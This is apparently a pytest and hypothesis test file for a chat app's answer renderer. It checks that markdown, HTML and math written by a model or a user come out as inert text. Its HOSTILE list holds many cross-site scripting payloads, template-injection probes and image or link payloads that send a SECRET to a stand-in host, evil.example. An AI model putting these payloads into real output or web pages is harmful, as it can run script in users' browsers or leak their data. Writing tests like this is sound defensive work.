"""What may be written to do harm, by a model, a document or a person: it stays text, and none of it is slow."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.conversations.rendering.answer_renderer import StreamRenderer, render_answer, render_question
from apps.conversations.rendering.link_policy import LinkPolicy

ID = "3f0c0e9e-1111-4222-8333-444455556666"
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[click](//evil.example/?d=SECRET)",
    "[click](https://known.example.evil.example/)",
    "[click](https://known.example@evil.example/)",
    "[click](https://evil.example\\@known.example/)",
    "![a](https://evil.example/?d=SECRET)",
    "![](/answers/1?delete=1)",
    "![a][ref]\n\n[ref]: https://evil.example/?d=SECRET",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "<https://evil.example/?q=SECRET>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=SECRET",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    '[x](https://known.example/" onmouseover="alert(1))',
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{</math><img src=x onerror=alert(1)>}$$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{evil}{x} \\cssId{y}{z} \\unicode{x3c}$",
    "$\\color{red;background:url(https://evil.example)}{x}$",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```mermaid\nclick A "javascript:alert(1)"\n```',
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | c |",
    '|a|\n|:-:" onclick=alert(1)|\n|b|',
    "</span></p></div><script>alert(1)</script>",
    '<span class="pills" data-sentence="0"></span>',
    '<span class="sentence" data-sentence="0" onclick="alert(1)">',
    "<style>@import url(https://evil.example)</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=p></form>",
    "<base href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "{{7*7}} {% load x %} ${7*7} <%= 7*7 %>",
    "line\u2028separator\u2029and \u202eright to left",
    "\ue000\U000f0000\U00100000 \x00 \ufeff \ud7ff",
    "a\U000f0005 b <b>\U000f0001</b>",
]
TAGS = """p h3 h4 h5 h6 ul ol li blockquote hr br strong em s a code pre span table thead tbody tr th td div
math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msup msub msubsup munder mover munderover mtable mtr mtd
mpadded mphantom menclose mstyle"""
ATTRIBUTES = """class data-sentence href target rel start display stretchy mathvariant fence form width linethickness
columnalign displaystyle minsize maxsize accent separator scriptlevel title lspace rspace height depth notation
rowspacing columnspacing movablelimits largeop symmetric accentunder tabindex"""
AROUND = ["{}", "# {}", "- {}\n- {}", "> {}", "**{}**", "| {} |\n|---|\n| {} |", "word. {} And more."]
AROUND += ["[{}](https://known.example/)"]
SIGNS = [" ", "\n", "\n\n", "**", "`", "$", "[", "](", ")", "<", ">", '"', "- ", "|"]


class Reader(HTMLParser):
    """Fails on whatever a browser might act upon."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS.split(), tag
        for name, value in attrs:
            assert name in ATTRIBUTES.split(), (tag, name)
            assert "url(" not in (value or "")
            assert name != "tabindex" or (tag in {"pre", "table"} and value == "0")
            if name == "href":
                assert (value or "").startswith(("https://known.example/", f"/answers/{ID}/sources/")), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def read(html: str) -> None:
    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()
    assert "\U000f0000" not in html
    assert "\u2028" not in html
    assert "\u202e" not in html


def answer(text: str) -> str:
    return render_answer(text, [], ID, LinkPolicy(hosts={"known.example"}))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_markup(text: str) -> None:
    for around in AROUND:
        read(answer(around.replace("{}", text)))
    read(render_question(text))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, *SIGNS]), max_size=8))
def test_nor_does_any_mixture_of_it(parts: list[str]) -> None:
    text = "".join(parts)
    read(answer(text))
    renderer = StreamRenderer(LinkPolicy(hosts={"known.example"}))
    for place in range(0, len(text), 7):
        renderer.feed(text[place : place + 7])
        read("".join(renderer.blocks))


@pytest.mark.shared
def test_naughty_strings_are_shown_as_text(shared: Path) -> None:
    for text in json.loads((shared / "data" / "naughty_strings" / "blns.json").read_text()):
        read(answer(text))
        read(render_question(text))


def test_a_picture_never_loads_and_shows_its_words() -> None:
    assert "a cat" in answer("![a cat](https://known.example/x.png)")
    assert "x.png" not in answer("![a cat](https://known.example/x.png)")


def test_deep_nesting_is_shown_flat() -> None:
    assert "deep" in answer("> " * 40_000 + "deep")
    assert "deep" in answer("- " * 40_000 + "deep")
    assert "deep" in answer("$" + "{" * 40_000 + "deep" + "}" * 100_000 + "$")
